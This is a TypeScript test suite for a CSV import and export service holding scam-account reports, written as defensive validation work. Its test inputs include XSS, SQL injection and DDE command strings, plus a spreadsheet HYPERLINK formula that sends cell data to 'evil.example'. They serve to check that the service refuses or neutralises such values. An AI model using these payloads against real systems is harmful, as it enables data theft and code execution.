// The bulk import and export on both databases: what loads, what is refused
// and why, and that loading twice changes nothing.
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { findSummary } from '../src/accounts/accounts.repository.ts';
import { ManualClock } from '../src/shared/clock.ts';
import { SecretBox } from '../src/shared/secret-box.ts';
import { withPersonalData } from '../src/shared/personal-data.ts';
import type { Database, DialectName } from '../src/db/database.ts';
import { ImportFileError, type RowProblem } from '../src/reports/import.csv.ts';
import { importReports, type ImportSummary } from '../src/reports/import.service.ts';
import { exportReportsCsv } from '../src/reports/export.service.ts';
import { readCsvRecords } from '../src/shared/csv-records.ts';
import {
  createTestDatabase,
  dialects,
  describeOn,
  type TestDatabase,
} from './support/databases.ts';
import { seedReports } from './support/factories.ts';

const clock = new ManualClock('2026-06-01T10:00:00Z');
const box = new SecretBox('test-secret-key-000000000000000000000');
const header = 'source_id,provider,number,category,reported_at,holder_name';

function csv(...lines: string[]): string {
  return `${lines.join('\n')}\n`;
}

interface Outcome {
  readonly summary: ImportSummary;
  readonly problems: RowProblem[];
}

async function load(t: TestDatabase, text: string | Buffer, skipInvalid = false): Promise<Outcome> {
  const problems: RowProblem[] = [];
  const summary = await importReports(t.database, () => Readable.from([text]), {
    clock,
    box,
    skipInvalid,
    batchSize: 3,
    onProblem: (p) => problems.push(p),
  });
  return { summary, problems };
}

async function reportCount(t: TestDatabase): Promise<number> {
  const row = await t.database.db
    .selectFrom('reports')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

async function exported(t: TestDatabase): Promise<string> {
  let text = '';
  for await (const chunk of exportReportsCsv(t.database.db)) text += chunk;
  return text;
}

/** A test database read as the services read it: sealed personal values opened. */
async function personalTestDatabase(dialect: DialectName): Promise<TestDatabase> {
  const stored = await createTestDatabase(dialect);
  const opened: TestDatabase & { stored: Database } = {
    ...stored,
    database: withPersonalData(stored.database, box),
    stored: stored.database,
  };
  return opened;
}

/** The database as stored on disk, personal values sealed. */
function storedOf(t: TestDatabase): Database {
  return (t as TestDatabase & { stored: Database }).stored;
}

for (const dialect of dialects) {
  describeOn(dialect)(`import on ${dialect}`, () => {
    let t: TestDatabase;
    beforeAll(async () => {
      t = await personalTestDatabase(dialect);
    });
    afterAll(async () => {
      await t?.close();
    });

    const valid = csv(
      header,
      'polri-1,014,1234567890,online_shopping_fraud,2026-01-02T03:04:05Z,Budi Santoso',
      'polri-2,014,1234567890,online_shopping_fraud,2026-03-01,',
      'polri-3,014,1234567890,investment_fraud,2026-02-03T11:05:06+07:00,',
      'polri-4,dana,0812-3456-7890,online_gambling,2026-05-31,',
      'polri-5,008,1234567890123,arisan_fraud,2025-12-24T23:59:59.5Z,"Santoso, Budi"',
    );

    it('loads every row as a verified report, and the summary counts them', async () => {
      const { summary, problems } = await load(t, valid);
      expect(problems).toEqual([]);
      expect(summary).toMatchObject({
        read: 5,
        loaded: 5,
        alreadyPresent: 0,
        invalid: 0,
        refused: false,
      });
      expect(await findSummary(t.database.db, '014:1234567890')).toMatchObject({
        verifiedCount: 3,
        categoryCounts: { online_shopping_fraud: 2, investment_fraud: 1 },
        firstReportedAt: new Date('2026-01-02T03:04:05Z'),
        lastReportedAt: new Date('2026-03-01T00:00:00Z'),
        demo: false,
      });
      expect(await findSummary(t.database.db, 'dana:6281234567890')).toMatchObject({
        verifiedCount: 1,
        categoryCounts: { online_gambling: 1 },
      });
      const stored = await t.database.db
        .selectFrom('reports')
        .select(['status', 'source', 'source_id', 'holder_name', 'verified_at'])
        .where('source_id', '=', 'polri-5')
        .executeTakeFirstOrThrow();
      expect(stored).toMatchObject({
        status: 'verified',
        source: 'import',
        holder_name: 'Santoso, Budi',
      });
      expect(new Date(stored.verified_at!)).toEqual(clock.now());
    });

    it('changes nothing when the same file is loaded again', async () => {
      const before = await reportCount(t);
      const { summary } = await load(t, valid);
      expect(summary).toMatchObject({ read: 5, loaded: 0, alreadyPresent: 5, invalid: 0 });
      expect(await reportCount(t)).toBe(before);
      expect((await findSummary(t.database.db, '014:1234567890'))?.verifiedCount).toBe(3);
    });

    it('skips a source_id repeated in the same file, in one batch or across batches', async () => {
      const { summary, problems } = await load(
        t,
        csv(
          header,
          'dup-1,009,2000000001,extortion,2026-01-01,',
          'dup-1,009,2000000002,extortion,2026-01-01,',
          'dup-2,009,2000000001,narcotics,2026-01-02,',
          'dup-3,009,2000000003,narcotics,2026-01-02,',
          'dup-1,009,2000000003,corruption,2026-01-03,',
        ),
      );
      expect(problems).toEqual([]);
      expect(summary).toMatchObject({ read: 5, loaded: 3, alreadyPresent: 2, invalid: 0 });
      expect(await findSummary(t.database.db, '009:2000000001')).toMatchObject({
        verifiedCount: 2,
        categoryCounts: { extortion: 1, narcotics: 1 },
      });
      // Created for the file, but its only row was a repeat: nothing to show.
      expect((await findSummary(t.database.db, '009:2000000002'))?.verifiedCount).toBe(0);
      expect((await findSummary(t.database.db, '009:2000000003'))?.categoryCounts).toEqual({
        narcotics: 1,
      });
    });

    it('adds to the summary of an account reported before the import', async () => {
      await seedReports(t.database, [
        { provider: '002', number: '100000000000001', reportedAt: '2025-01-01T00:00:00Z' },
      ]);
      await load(t, csv(header, 'bri-1,bri,100000000000001,extortion,2026-04-01,'));
      expect(await findSummary(t.database.db, '002:100000000000001')).toMatchObject({
        verifiedCount: 2,
        categoryCounts: { online_shopping_fraud: 1, extortion: 1 },
        firstReportedAt: new Date('2025-01-01T00:00:00Z'),
        lastReportedAt: new Date('2026-04-01T00:00:00Z'),
      });
    });

    it('loads nothing from a file with a bad row, and names the line and reason', async () => {
      const before = await reportCount(t);
      const { summary, problems } = await load(
        t,
        csv(
          header,
          'bad-1,014,3000000001,extortion,2026-01-01,',
          'bad-2,014,30000x0002,extortion,2026-01-01,',
          'bad-3,014,3000000003,extortion,2026-01-01,',
        ),
      );
      expect(problems).toEqual([{ line: 3, reason: 'invalid account number (not_digits)' }]);
      expect(summary).toMatchObject({ read: 3, loaded: 0, invalid: 1, refused: true });
      expect(await reportCount(t)).toBe(before);
      expect(await findSummary(t.database.db, '014:3000000001')).toBeUndefined();
    });

    it('loads the valid rows with skipInvalid and reports the bad ones', async () => {
      const { summary, problems } = await load(
        t,
        csv(
          header,
          'skip-1,014,4000000001,extortion,2026-01-01,',
          'skip-2,xyz,4000000002,extortion,2026-01-01,',
          'skip-3,014,4000000003,extortion,2026-01-01,',
        ),
        true,
      );
      expect(problems).toEqual([{ line: 3, reason: 'unknown provider "xyz"' }]);
      expect(summary).toMatchObject({ read: 3, loaded: 2, invalid: 1, refused: false });
      expect((await findSummary(t.database.db, '014:4000000003'))?.verifiedCount).toBe(1);
    });

    it('names every kind of bad row', async () => {
      const rows: [string, string][] = [
        ['k1,xyz,1234567890,extortion,2026-01-01,', 'unknown provider "xyz"'],
        ['k2,014,1234,extortion,2026-01-01,', 'invalid account number (too_short)'],
        ['k3,014,١٢٣٤٥٦٧٨٩٠,extortion,2026-01-01,', 'invalid account number (not_digits)'],
        [
          'k4,014,１２３４５６７８９０,extortion,2026-01-01,',
          'invalid account number (not_digits)',
        ],
        ['k5,ovo,0211234567,extortion,2026-01-01,', 'invalid account number (not_mobile)'],
        ['k6,014,1234567890,fraud,2026-01-01,', 'unknown category "fraud"'],
        [
          'k7,014,1234567890,extortion,2026-02-30,',
          'invalid reported_at "2026-02-30" (expected RFC 3339 time or YYYY-MM-DD)',
        ],
        [
          'k8,014,1234567890,extortion,01/02/2026,',
          'invalid reported_at "01/02/2026" (expected RFC 3339 time or YYYY-MM-DD)',
        ],
        [
          'k9,014,1234567890,extortion,2026-01-01T24:00:00Z,',
          'invalid reported_at "2026-01-01T24:00:00Z" (expected RFC 3339 time or YYYY-MM-DD)',
        ],
        [
          'k10,014,1234567890,extortion,2026-06-01T11:00:00Z,',
          'reported_at "2026-06-01T11:00:00Z" is in the future',
        ],
        ['k11,014,1234567890,extortion,2026-06-03,', 'reported_at "2026-06-03" is in the future'],
        ['k12,014,1234567890,extortion,1899-01-01,', 'reported_at "1899-01-01" is before 1990'],
        [',014,1234567890,extortion,2026-01-01,', 'empty source_id'],
        [
          `${'x'.repeat(201)},014,1234567890,extortion,2026-01-01,`,
          'source_id longer than 200 characters',
        ],
        ['k15,014,1234567890,extortion,2026-01-01', 'expected 6 columns as in the header, found 5'],
        [
          'k16,014,1234567890,extortion,2026-01-01,,extra',
          'expected 6 columns as in the header, found 7',
        ],
        [
          'k17,<script>alert(1)</script>,1234567890,extortion,2026-01-01,',
          'unknown provider "<script>alert(1)</script>"',
        ],
        [
          "k18,014,1234567890' OR '1'='1,extortion,2026-01-01,",
          'invalid account number (not_digits)',
        ],
        [
          'k19,014,1234567890,extortion; DROP TABLE reports; --,2026-01-01,',
          'unknown category "extortion; DROP TABLE reports; --"',
        ],
        [
          'k20,014,1234567890,extortion,2026-01-01,<b>Budi</b>',
          'holder_name contains control characters or markup',
        ],
        [
          'k21<img src=x>,014,1234567890,extortion,2026-01-01,',
          'source_id contains control characters or markup',
        ],
        [
          '"k22\u0007",014,1234567890,extortion,2026-01-01,',
          'source_id contains control characters or markup',
        ],
        [
          '"k23",014,1234567890,extortion,2026-01-01,"Budi\nSantoso"',
          'holder_name contains control characters or markup',
        ],
      ];
      const { summary, problems } = await load(t, csv(header, ...rows.map(([row]) => row)));
      // Row k23 spans two lines; its problem is named at the line where it ends.
      const expected = rows.map(([, reason], i) => ({ line: i + 2 + (i === 22 ? 1 : 0), reason }));
      expect(problems).toEqual(expected);
      expect(summary).toMatchObject({ read: rows.length, invalid: rows.length, refused: true });
    });

    it('names a row that is not UTF-8', async () => {
      const latin1 = Buffer.from(
        csv(header, 'enc-1,014,1234567890,extortion,2026-01-01,José'),
        'latin1',
      );
      const { problems } = await load(t, latin1);
      expect(problems).toEqual([{ line: 2, reason: 'holder_name is not valid UTF-8' }]);
    });

    it('stores names with quotes and SQL verbatim, and runs none of it', async () => {
      const name = 'O\'Brien"; DROP TABLE reports; --';
      const { summary } = await load(
        t,
        csv(header, `sql-1,014,5000000001,extortion,2026-01-01,"${name.replaceAll('"', '""')}"`),
      );
      expect(summary.loaded).toBe(1);
      const row = await t.database.db
        .selectFrom('reports')
        .select('holder_name')
        .where('source_id', '=', 'sql-1')
        .executeTakeFirstOrThrow();
      expect(row.holder_name).toBe(name);
      // Stored sealed: the name is personal data, and never in clear at rest.
      const stored = await storedOf(t)
        .db.selectFrom('reports')
        .select('holder_name')
        .where('source_id', '=', 'sql-1')
        .executeTakeFirstOrThrow();
      expect(stored.holder_name).toMatch(/^p1\.v1\./);
      expect(stored.holder_name).not.toContain('Brien');
      expect(await reportCount(t)).toBeGreaterThan(1);
    });

    it('refuses a wrong header as a whole, naming line 1', async () => {
      for (const [first, reason] of [
        ['source_id,provider,number,category', 'missing reported_at'],
        ['source_id,provider,number,category,reported_at,amount', 'unknown column "amount"'],
        ['source_id,provider,number,number,category,reported_at', 'column number twice'],
        ['1,014,1234567890,extortion,2026-01-01', 'unknown column "1"'],
      ] as const) {
        const attempt = load(t, csv(first, 'h-1,014,1234567890,extortion,2026-01-01'));
        await expect(attempt).rejects.toBeInstanceOf(ImportFileError);
        await expect(attempt).rejects.toThrow(new RegExp(`^line 1: wrong header: ${reason}`));
      }
      await expect(load(t, '')).rejects.toThrow(/^line 1: empty file/);
    });

    it('refuses broken CSV as a whole', async () => {
      const attempt = load(
        t,
        csv(header, 'q-1,014,6000000001,extortion,2026-01-01,"Budi', 'q-2,014,6000000002,x,y,z'),
      );
      await expect(attempt).rejects.toThrow(/malformed CSV/);
      expect(await findSummary(t.database.db, '014:6000000001')).toBeUndefined();
    });

    it('reads a BOM, CRLF line ends, blank lines and columns in any order', async () => {
      const text =
        '\uFEFFReported_At,Category,Number,Provider,Source_Id\r\n' +
        '2026-01-05,extortion,7000000001,014,bom-1\r\n' +
        '\r\n' +
        '2026-01-06,narcotics,7000000001,014,bom-2\r\n';
      const { summary, problems } = await load(t, text);
      expect(problems).toEqual([]);
      expect(summary).toMatchObject({ read: 2, loaded: 2 });
      expect((await findSummary(t.database.db, '014:7000000001'))?.verifiedCount).toBe(2);
    });

    it('takes provider aliases and the written forms of numbers as one account', async () => {
      const { summary, problems } = await load(
        t,
        csv(
          header,
          'form-1,bca,800-000-0001,extortion,2026-01-01,',
          'form-2,Bank Central Asia,800.000.0001,extortion,2026-01-02,',
          'form-3,BCA, 800 000 0001 ,extortion,2026-01-03,',
          'form-4,gopay,0812-0000-0001,extortion,2026-01-01,',
          'form-5,go pay,+62 812 0000 0001,extortion,2026-01-02,',
          'form-6,Gojek,6281200000001,extortion,2026-01-03,',
        ),
      );
      expect(problems).toEqual([]);
      expect(summary.loaded).toBe(6);
      expect((await findSummary(t.database.db, '014:8000000001'))?.verifiedCount).toBe(3);
      expect((await findSummary(t.database.db, 'gopay:6281200000001'))?.verifiedCount).toBe(3);
    });

    it('tells other processes which accounts changed', async () => {
      await load(t, csv(header, 'tell-1,014,9000000001,extortion,2026-01-01,'));
      if (dialect !== 'sqlite') return; // PostgreSQL: NOTIFY, covered by the command-line test.
      const change = await t.database.db
        .selectFrom('account_changes')
        .select('key')
        .where('key', '=', '014:9000000001')
        .executeTakeFirst();
      expect(change).toBeDefined();
    });

    it('exports the verified reports in the import format, and they load elsewhere alike', async () => {
      const text = await exported(t);
      const lines = text.trimEnd().split('\n');
      expect(lines[0]).toBe(header);
      expect(lines).toContain(
        'polri-1,014,1234567890,online_shopping_fraud,2026-01-02T03:04:05Z,Budi Santoso',
      );
      expect(lines).toContain(
        'polri-5,008,1234567890123,arisan_fraud,2025-12-24T23:59:59.500Z,"Santoso, Budi"',
      );
      expect(
        lines.some((l) => /^cekrek-\d+,002,100000000000001,online_shopping_fraud,/.test(l)),
      ).toBe(true);
      expect(text).not.toContain('skip-2');

      const copy = await personalTestDatabase(dialect);
      try {
        const { summary, problems } = await load(copy, text);
        expect(problems).toEqual([]);
        expect(summary.loaded).toBe(lines.length - 1);
        for (const key of ['014:1234567890', '009:2000000001', '002:100000000000001']) {
          const original = await findSummary(t.database.db, key);
          expect(await findSummary(copy.database.db, key)).toEqual(original);
        }
        // Exported again, the copy gives the same file but for the ids it made its own.
        expect((await exported(copy)).split('\n').length).toBe(text.split('\n').length);
      } finally {
        await copy.close();
      }
    });
  });
}

/** What a spreadsheet runs when a cell begins with it (OWASP), and the full-width forms. */
const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** Any characters, with formula starts, apostrophes and CSV syntax made frequent. */
const textUnit = fc.oneof(
  fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', "'", '"', ',', ' ', '|', '!'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);
/** What the import refuses in a source id or a holder name. */
const refusedText = /[\p{Cc}\p{Cf}<>\uFFFD]/gu;
/** Source ids and holder names as the import stores them (trimmed; names with spaces folded). */
const sourceIds = fc
  .string({ unit: textUnit, minLength: 1, maxLength: 40 })
  .map((s) => s.replace(refusedText, '').trim())
  .filter((s) => s !== '');
const holderNames = fc
  .string({ unit: textUnit, minLength: 1, maxLength: 60 })
  .map((s) => s.replace(refusedText, '').replace(/\s+/g, ' ').trim())
  .filter((s) => s !== '');

interface Exported {
  readonly source_id: string | null;
  readonly holder_name: string | null;
}

/** The imported rows as the services read them (holder names opened: they are sealed at rest). */
async function importedRows(t: TestDatabase): Promise<Exported[]> {
  return withPersonalData(t.database, box)
    .db.selectFrom('reports')
    .select(['source_id', 'holder_name'])
    .where('source', '=', 'import')
    .orderBy('source_id')
    .execute();
}

/** Every cell of a CSV text, as written (nothing undone). */
async function cellsOf(text: string): Promise<string[]> {
  const cells: string[] = [];
  const input = Readable.from([Buffer.from(text)]);
  for await (const record of readCsvRecords(input, { maxRecordSize: 16 * 1024 })) {
    cells.push(...record.fields);
  }
  return cells;
}

function sortedBySourceId(rows: readonly Exported[]): Exported[] {
  return [...rows].sort((a, b) => ((a.source_id ?? '') < (b.source_id ?? '') ? -1 : 1));
}

for (const dialect of dialects) {
  describeOn(dialect)(`export to a spreadsheet and back on ${dialect}`, () => {
    let source: TestDatabase;
    let target: TestDatabase;
    beforeAll(async () => {
      [source, target] = await Promise.all([
        createTestDatabase(dialect),
        createTestDatabase(dialect),
      ]);
    });
    afterAll(async () => {
      await Promise.all([source?.close(), target?.close()]);
    });
    beforeEach(async () => {
      for (const t of [source, target]) await t.database.db.deleteFrom('reports').execute();
    });

    it('writes no cell a spreadsheet would run, and the import reads back what was stored', async () => {
      const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")';
      await seedReports(source.database, [
        { provider: '014', number: '1111111111', holderName: formula },
        {
          provider: '014',
          number: '1111111112',
          source: 'import',
          sourceId: '-1',
          holderName: '+62 812 3456 7890',
        },
        {
          provider: '014',
          number: '1111111113',
          source: 'import',
          sourceId: "@SUM(1+1)*cmd|' /C calc'!A0",
          holderName: "'=x",
        },
        {
          provider: '014',
          number: '1111111114',
          source: 'import',
          sourceId: '+62',
          holderName: '＝1+1',
        },
        {
          provider: '014',
          number: '1111111115',
          source: 'import',
          sourceId: "'quoted",
          holderName: "'",
        },
      ]);
      const text = await exported(source);
      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
      expect(text).toContain(
        `'-1,014,1111111112,online_shopping_fraud,2026-01-15T08:00:00Z,'+62 812 3456 7890\n`,
      );
      for (const cell of await cellsOf(text)) {
        expect(formulaStarts, cell).not.toContain(cell.charAt(0));
      }

      const { summary, problems } = await load(target, text);
      expect(problems).toEqual([]);
      expect(summary.loaded).toBe(5);
      const publicId = (await importedRows(target)).find((r) => r.source_id?.startsWith('cekrek-'));
      expect(publicId?.holder_name).toBe(formula);
      expect(await importedRows(target)).toEqual(
        expect.arrayContaining([
          { source_id: '-1', holder_name: '+62 812 3456 7890' },
          { source_id: "@SUM(1+1)*cmd|' /C calc'!A0", holder_name: "'=x" },
          { source_id: '+62', holder_name: '＝1+1' },
          { source_id: "'quoted", holder_name: "'" },
        ]),
      );
    });

    it('round-trips any source id and holder name through export and import', async () => {
      const rows = fc.uniqueArray(
        fc.record({ sourceId: sourceIds, holderName: fc.option(holderNames) }),
        {
          selector: (r) => r.sourceId,
          minLength: 1,
          maxLength: 4,
        },
      );
      await fc.assert(
        fc.asyncProperty(rows, async (generated) => {
          for (const t of [source, target]) await t.database.db.deleteFrom('reports').execute();
          await seedReports(
            source.database,
            generated.map((row, i) => ({
              provider: '014',
              number: `22222222${i}0`,
              source: 'import' as const,
              sourceId: row.sourceId,
              ...(row.holderName === null ? {} : { holderName: row.holderName }),
            })),
          );
          const text = await exported(source);
          for (const cell of await cellsOf(text)) {
            expect(formulaStarts, cell).not.toContain(cell.charAt(0));
          }
          const { summary, problems } = await load(target, text);
          expect(problems).toEqual([]);
          expect(summary.loaded).toBe(generated.length);
          expect(sortedBySourceId(await importedRows(target))).toEqual(
            sortedBySourceId(
              generated.map((r) => ({ source_id: r.sourceId, holder_name: r.holderName })),
            ),
          );
        }),
        { numRuns: 40 },
      );
    });
  });
}
